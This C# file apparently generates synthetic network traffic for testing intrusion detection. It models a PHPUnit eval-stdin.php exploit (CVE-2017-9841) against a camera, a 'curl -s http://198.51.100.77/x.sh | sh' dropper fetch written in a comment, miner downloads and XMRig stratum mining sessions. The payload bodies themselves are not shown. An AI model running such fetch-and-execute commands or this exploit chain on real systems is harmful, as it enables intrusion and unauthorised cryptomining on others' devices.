using System.Globalization;
using System.Net;
using System.Text;
using Assay.Synthesis.Packets;
using Assay.Synthesis.Payloads;
using Assay.Synthesis.Sessions;

namespace Assay.Synthesis.Scenarios;

/// <summary>The compromised camera, the mining printer and the workstation with a TLS pool session.</summary>
internal sealed partial class DemoBuilder
{
    public const string PoolDomain = "xmr.pool.example";
    public const string PoolCanonicalName = "eu1.xmr.pool.example";
    public const string XmrigAgent = "XMRig/6.21.0 (Linux aarch64) libuv/1.44.2 gcc/9.4.0";
    private const string DropperBase = "http://198.51.100.77";
    private const string MinerName = "kworkerd";

    private static readonly string[] s_xmrigAlgorithms = ["rx/0", "cn/1", "cn/2", "cn/r", "cn/fast", "cn/half", "cn/rwz", "cn/zls", "cn/double", "rx/wow", "rx/arq", "rx/sfx"];

    private void GenerateIntrusion(SeededRandom random)
    {
        string wallet = AttackPayloads.MoneroWallet(random);
        DateTimeOffset date = SynthTime.FromUnixNanos(At(0.2));

        // 1. The attacker (far away, so the large RTT is on the client side) posts a PHP body to PHPUnit's eval-stdin.php.
        var exploit = new TcpConversation(_attacker, NextPort(_attacker, random), _camera, 80, At(0.2),
            TcpOptions(_attacker, TimeSpan.FromMicroseconds(600), random) with { ClientRtt = TimeSpan.FromMilliseconds(85) });
        exploit.Handshake()
            .Exchange(AttackPayloads.PhpUnitExploit(_camera.Address.ToString(), DropperBase + "/x.sh"),
                HttpMessages.Response(200, "OK", [new("Server", "Apache/2.4.29 (Ubuntu)"), new("Content-Type", "text/html; charset=UTF-8")], []),
                TimeSpan.FromMilliseconds(40))
            .Close(clientFirst: false);
        AddTcp(FlowRole.ExploitAttempt, exploit, "POST eval-stdin.php with a <?php body (CVE-2017-9841)");

        // 2. curl -s http://198.51.100.77/x.sh | sh
        var script = new TcpConversation(_camera, NextPort(_camera, random), _dropper, 80, exploit.Now + Seconds(0.15),
            TcpOptions(_camera, TimeSpan.FromMilliseconds(95), random));
        script.Handshake()
            .Exchange(HttpMessages.CurlGet("/x.sh", "198.51.100.77", "7.58.0"),
                HttpMessages.Ok("text/x-sh", AttackPayloads.DropperScript(DropperBase, MinerName, PoolDomain + ":3333", wallet), date),
                TimeSpan.FromMilliseconds(2))
            .Close();
        AddTcp(FlowRole.DropperDownload, script, "curl | sh dropper script");

        // 3. The script fetches the miner (an ELF carrying xmrig / randomx / stratum+tcp:// strings).
        var miner = new TcpConversation(_camera, NextPort(_camera, random), _dropper, 80, script.Now + Seconds(0.4),
            TcpOptions(_camera, TimeSpan.FromMilliseconds(95), random));
        miner.Handshake()
            .Exchange(HttpMessages.CurlGet("/" + MinerName, "198.51.100.77", "7.58.0"),
                HttpMessages.Ok("application/octet-stream", AttackPayloads.MinerElf(random, 512 * 1024, PoolDomain + ":3333", wallet), date),
                TimeSpan.FromMilliseconds(2))
            .Close();
        AddTcp(FlowRole.MinerDownload, miner, "ELF miner download");

        // 4. The miner resolves its pool (CNAME to a regional name, then A).
        long answered = DnsLookup(_camera, miner.Now + Seconds(0.6), PoolDomain, DnsType.A,
            [DnsRecord.CName(PoolDomain, PoolCanonicalName, 300), DnsRecord.A(PoolCanonicalName, _xmrPool.Address, 60)], random, FlowRole.PoolDnsLookup);

        // 5. XMRig stratum on 3333 until the capture ends: login, jobs every ~30 s, submits, keepalives.
        var stratum = new TcpConversation(_camera, NextPort(_camera, random), _xmrPool, 3333, answered + Seconds(0.002),
            TcpOptions(_camera, TimeSpan.FromMilliseconds(70), random));
        string minerId = Guid(random);
        long height = 3_350_000 + random.Next(0, 50_000);
        XmrigJob job = NewXmrigJob(random, height);
        stratum.Handshake()
            .ClientSends(XmrigMessages.Login(1, wallet, "x", XmrigAgent, s_xmrigAlgorithms))
            .ServerSends(XmrigMessages.LoginResult(1, minerId, job), TimeSpan.FromMilliseconds(3));

        int id = 2;
        long nextJob = stratum.Now + Seconds(random.Next(25, 35));
        long nextSubmit = stratum.Now + Seconds(random.Exponential(40));
        long lastSent = stratum.Now;
        while (true)
        {
            long nextKeepAlive = lastSent + Seconds(60);
            long next = Math.Min(nextJob, Math.Min(nextSubmit, nextKeepAlive));
            if (next > _end)
                break;
            stratum.AdvanceTo(next);
            if (next == nextJob)
            {
                job = NewXmrigJob(random, random.Chance(0.5) ? ++height : height);
                stratum.ServerSends(XmrigMessages.Job(job, minerId));
                nextJob = next + Seconds(random.Next(25, 35));
            }
            else if (next == nextSubmit)
            {
                stratum.ClientSends(XmrigMessages.Submit(id, minerId, job.JobId, AttackPayloads.Hex(random, 4), AttackPayloads.Hex(random, 32)))
                    .ServerSends(XmrigMessages.Status(id), TimeSpan.FromMilliseconds(2));
                id++;
                lastSent = next;
                nextSubmit = next + Seconds(random.Exponential(40));
            }
            else
            {
                stratum.ClientSends(XmrigMessages.Keepalived(id, minerId)).ServerSends(XmrigMessages.Status(id, "KEEPALIVED"));
                id++;
                lastSent = next;
            }
        }

        AddTcp(FlowRole.StratumXmrig, stratum, $"XMRig stratum to {PoolDomain}:3333 (left open)");
    }

    private static XmrigJob NewXmrigJob(SeededRandom random, long height)
    {
        // RandomX hashing blob: major/minor version 16.16, then timestamp, prev id, nonce, merkle root, tx count (76 bytes).
        string blob = "1010" + AttackPayloads.Hex(random, 74);
        return new XmrigJob(AttackPayloads.Hex(random, 12), blob, "b88d0600", "rx/0", height, AttackPayloads.Hex(random, 32));
    }

    private static string Guid(SeededRandom random)
    {
        string hex = AttackPayloads.Hex(random, 16);
        return $"{hex[..8]}-{hex[8..12]}-{hex[12..16]}-{hex[16..20]}-{hex[20..]}";
    }

    /// <summary>The printer speaks cleartext stratum v1 to a pool on 8080, by IP address (no DNS).</summary>
    private void GeneratePrinterMiner(SeededRandom random)
    {
        var stratum = new TcpConversation(_printer, NextPort(_printer, random), _printerPool, 8080, At(0.35),
            TcpOptions(_printer, TimeSpan.FromMilliseconds(48), random));
        const string Worker = "prn-7f3a.w1";
        string extranonce1 = AttackPayloads.Hex(random, 4);
        stratum.Handshake()
            .Exchange(StratumMessages.Subscribe(1, "cpuminer-multi/1.3.7"), StratumMessages.SubscribeResult(1, AttackPayloads.Hex(random, 8), extranonce1, 4))
            .Exchange(StratumMessages.Authorize(2, Worker, "x"), TlsRecords.Concat(StratumMessages.Result(2, true), StratumMessages.SetDifficulty(0.5)));

        int id = 3;
        int job = random.Next(0x1000, 0xF000);
        string previousHash = AttackPayloads.Hex(random, 32);
        long time = SynthTime.ToUnixNanos(_options.Start) / SynthTime.Second;
        string currentJob = Notify(stratum, random, ref job, ref previousHash, time, clean: true);
        long nextNotify = stratum.Now + Seconds(random.Next(25, 35));
        long nextSubmit = stratum.Now + Seconds(random.Exponential(70));
        while (Math.Min(nextNotify, nextSubmit) <= _end)
        {
            if (nextNotify <= nextSubmit)
            {
                stratum.AdvanceTo(nextNotify);
                bool clean = random.Chance(0.2);
                if (clean)
                    previousHash = AttackPayloads.Hex(random, 32);
                currentJob = Notify(stratum, random, ref job, ref previousHash, nextNotify / SynthTime.Second, clean);
                nextNotify += Seconds(random.Next(25, 35));
            }
            else
            {
                stratum.AdvanceTo(nextSubmit);
                string ntime = (nextSubmit / SynthTime.Second).ToString("x8", CultureInfo.InvariantCulture);
                stratum.ClientSends(StratumMessages.Submit(id, Worker, currentJob, AttackPayloads.Hex(random, 4), ntime, AttackPayloads.Hex(random, 4)))
                    .ServerSends(random.Chance(0.9) ? StratumMessages.Result(id, true) : StratumMessages.Error(id, 23, "Low difficulty share"),
                        TimeSpan.FromMilliseconds(4));
                id++;
                nextSubmit += Seconds(random.Exponential(70));
            }
        }

        AddTcp(FlowRole.StratumCleartextOddPort, stratum, "stratum v1 (mining.*) to 203.0.113.50:8080 (left open)");
    }

    private static string Notify(TcpConversation stratum, SeededRandom random, ref int job, ref string previousHash, long unixSeconds, bool clean)
    {
        string jobId = (job++).ToString("x", CultureInfo.InvariantCulture);
        string[] branches = new string[random.Next(3, 9)];
        for (int i = 0; i < branches.Length; i++)
            branches[i] = AttackPayloads.Hex(random, 32);
        stratum.ServerSends(StratumMessages.Notify(jobId, previousHash, "01000000010000000000000000000000000000000000000000000000000000000000000000ffffffff20" + AttackPayloads.Hex(random, 20),
            AttackPayloads.Hex(random, 40) + "ffffffff", branches, "20000000", "1703a30c", unixSeconds.ToString("x8", CultureInfo.InvariantCulture), clean));
        return jobId;
    }

    /// <summary>ws-03 runs a miner that reaches its pool by IP address over TLS on 443: no SNI, no ALPN, OpenSSL defaults.</summary>
    private void GenerateTlsMiner(SeededRandom random)
    {
        Host workstation = _workstations[2];
        var session = new TcpConversation(workstation, NextPort(workstation, random), _tlsPool, 443, At(0.1),
            TcpOptions(workstation, TimeSpan.FromMilliseconds(62), random));
        TlsClientHello hello = TlsClientHello.OpenSsl(null, random);
        session.Handshake()
            .ClientSends(hello.Build())
            .ServerSends(TlsRecords.ServerFlight13(TlsServerHello.Tls13(hello, random, 0x1302), random.Next(1100, 1400), random), TimeSpan.FromMilliseconds(2))
            .ClientSends(TlsRecords.Concat(TlsRecords.ClientFinished13(random), TlsRecords.ApplicationData(random.Next(380, 420), random))) // login
            .ServerSends(TlsRecords.ApplicationData(random.Next(560, 620), random), TimeSpan.FromMilliseconds(3));                          // login result + job

        long nextJob = session.Now + Seconds(random.Next(25, 35));
        long nextSubmit = session.Now + Seconds(random.Exponential(50));
        while (Math.Min(nextJob, nextSubmit) <= _end)
        {
            if (nextJob <= nextSubmit)
            {
                session.AdvanceTo(nextJob).ServerSends(TlsRecords.ApplicationData(random.Next(340, 420), random));
                nextJob += Seconds(random.Next(25, 35));
            }
            else
            {
                session.AdvanceTo(nextSubmit).ClientSends(TlsRecords.ApplicationData(random.Next(220, 260), random))
                    .ServerSends(TlsRecords.ApplicationData(random.Next(70, 90), random), TimeSpan.FromMilliseconds(2));
                nextSubmit += Seconds(random.Exponential(50));
            }
        }

        AddTcp(FlowRole.StratumTlsNoSni, session, "TLS without SNI to a pool at 198.51.100.30:443 (left open)");
    }

    private void GenerateEdgeCases(SeededRandom random)
    {
        // VLAN 30: a desk phone and its voice gateway exchange SIP OPTIONS keepalives; two pings go out double-tagged (QinQ).
        var phone = new Host("phone", IPAddress.Parse("10.30.0.21"), MacAddress.Parse("80:5e:c0:11:22:33"), 64);
        var voiceGateway = new Host("voice-gw", IPAddress.Parse("10.30.0.1"), MacAddress.Parse("00:1b:54:aa:bb:01"), 255);
        var sip = new UdpExchange(voiceGateway, 5060, phone, 5060, _start + Seconds(random.Next(5, 40)),
            new UdpExchangeOptions { ServerRtt = TimeSpan.FromMilliseconds(2), Framing = Framing.Vlan(30), Seed = (long)random.NextUInt64() });
        for (int i = 0; sip.Now < _end - Seconds(60) || i == 0; i++)
        {
            string branch = AttackPayloads.Hex(random, 6);
            sip.Request(Encoding.ASCII.GetBytes($"OPTIONS sip:phone@10.30.0.21:5060 SIP/2.0\r\nVia: SIP/2.0/UDP 10.30.0.1:5060;branch=z9hG4bK{branch}\r\nFrom: <sip:ping@10.30.0.1>;tag={i}\r\nTo: <sip:phone@10.30.0.21>\r\nCall-ID: {branch}@10.30.0.1\r\nCSeq: {i + 1} OPTIONS\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n"),
                Encoding.ASCII.GetBytes($"SIP/2.0 200 OK\r\nVia: SIP/2.0/UDP 10.30.0.1:5060;branch=z9hG4bK{branch}\r\nFrom: <sip:ping@10.30.0.1>;tag={i}\r\nTo: <sip:phone@10.30.0.21>;tag=ph{i}\r\nCall-ID: {branch}@10.30.0.1\r\nCSeq: {i + 1} OPTIONS\r\nContent-Length: 0\r\n\r\n"))
                .Wait(TimeSpan.FromSeconds(60));
        }

        AddUdp(FlowRole.VoiceSignalling, sip, "SIP OPTIONS on VLAN 30");
        AddPackets(FlowRole.IcmpEcho, IPProtocolNumber.Icmp, phone, 0, voiceGateway, 0,
            Exchanges.Ping(phone, voiceGateway, At(0.4), 2, TimeSpan.FromSeconds(1), TimeSpan.FromMicroseconds(600), 77, framing: Framing.Vlan(100, 30)),
            "ping on QinQ 100/30");

        // IPv6: ws-04 looks up an AAAA record (over IPv4), pings the server and fetches a page over TLS.
        var v6Site = new Site(_v6Server.Name, _v6Server, null, TimeSpan.FromMilliseconds(40));
        long t = DnsLookup(_workstations[3], At(0.45), v6Site.Name, DnsType.Aaaa, [DnsRecord.Aaaa(v6Site.Name, _v6Server.Address)], random);
        AddPackets(FlowRole.IcmpEcho, IPProtocolNumber.IcmpV6, _workstation6, 0, _v6Server, 0,
            Exchanges.Ping(_workstation6, _v6Server, t + Seconds(0.01), 3, TimeSpan.FromSeconds(1), TimeSpan.FromMilliseconds(40), 0x6c6c),
            "ICMPv6 echo");
        var conversation = new TcpConversation(_workstation6, NextPort(_workstation6, random), _v6Server, 443, t + Seconds(3.1),
            TcpOptions(_workstation6, v6Site.Rtt, random));
        TlsClientHello hello = TlsClientHello.Chrome(v6Site.Name, random);
        conversation.Handshake().ClientSends(hello.Build())
            .ServerSends(TlsRecords.ServerFlight13(TlsServerHello.Tls13(hello, random), 3000, random), TimeSpan.FromMilliseconds(2))
            .ClientSends(TlsRecords.Concat(TlsRecords.ClientFinished13(random), TlsRecords.ApplicationData(500, random)))
            .ServerSends(TlsRecords.ApplicationData(30_000, random), TimeSpan.FromMilliseconds(10))
            .Wait(TimeSpan.FromSeconds(2))
            .Close();
        AddTcp(FlowRole.IPv6Web, conversation, "TLS over IPv6");

        // A DNS answer too big for one frame: EDNS(0) with 140 A records, fragmented at 1500.
        Host client = _workstations[1];
        const string BigName = "assets.cdn.example.net";
        ushort id = (ushort)random.NextUInt32();
        var query = new DnsMessageBuilder { Id = id, EdnsUdpPayloadSize = 4096 }.Question(BigName).Build();
        var answer = new DnsMessageBuilder { Id = id, IsResponse = true, RecursionAvailable = true, EdnsUdpPayloadSize = 4096 }.Question(BigName);
        for (int i = 0; i < 140; i++)
            answer.Answer(DnsRecord.A(BigName, new IPAddress([203, 0, 113, (byte)(100 + (i % 100))]), 20));
        var dns = new UdpExchange(client, NextPort(client, random), _gateway, 53, At(0.6),
            new UdpExchangeOptions { ServerRtt = TimeSpan.FromMilliseconds(25), Seed = (long)random.NextUInt64() });
        dns.ClientSends(query).SendFragmented(fromClient: false, answer.Build(), 1500);
        AddUdp(FlowRole.FragmentedDns, dns, "DNS answer in two IPv4 fragments");

        // An internet scanner: one refused SYN, then three malformed packets.
        var refused = new TcpConversation(_scanner, NextPort(_scanner, random), _camera, 23, At(0.7),
            TcpOptions(_scanner, TimeSpan.FromMicroseconds(500), random) with { ClientRtt = TimeSpan.FromMilliseconds(120) });
        AddTcp(FlowRole.PortScan, refused.Refused(), "SYN to telnet, refused");

        long scan = At(0.7) + Seconds(0.5);
        byte[] synOptions = new TcpOptionList().Mss(1460).ToArray();
        AddAnomaly(scan, Framing.Ethernet.BeginIP(_scanner, _nas, 54321, false).CorruptIPv4Checksum()
            .Tcp(NextPort(_scanner, random), 22, random.NextUInt32(), 0, TcpControl.Syn, 1024, synOptions).Build(),
            "ipv4.checksum_invalid", "SYN to 22 with a wrong IPv4 header checksum");
        AddAnomaly(scan + Seconds(0.01), Framing.Ethernet.BeginIP(_scanner, _nas, 54322, false)
            .Tcp(NextPort(_scanner, random), 445, random.NextUInt32(), 0, TcpControl.Syn, 1024, synOptions).TruncateTransport(12).Build(),
            "tcp.pkt_too_small", "IPv4 packet carrying only 12 bytes of TCP header");
        AddAnomaly(scan + Seconds(0.02), Framing.Ethernet.BeginIP(_scanner, _nas, 54323, false)
            .Tcp(NextPort(_scanner, random), 3389, random.NextUInt32(), 0, TcpControl.Syn, 1024,
                new TcpOptionList().Mss(1460).Nop().WindowScale(10).SackPermitted().Timestamps(1, 0).ToArray())
            .TruncateTransport(24).Build(),
            "tcp.hlen_past_end", "TCP data offset says 40 bytes, 24 are present");
    }
}
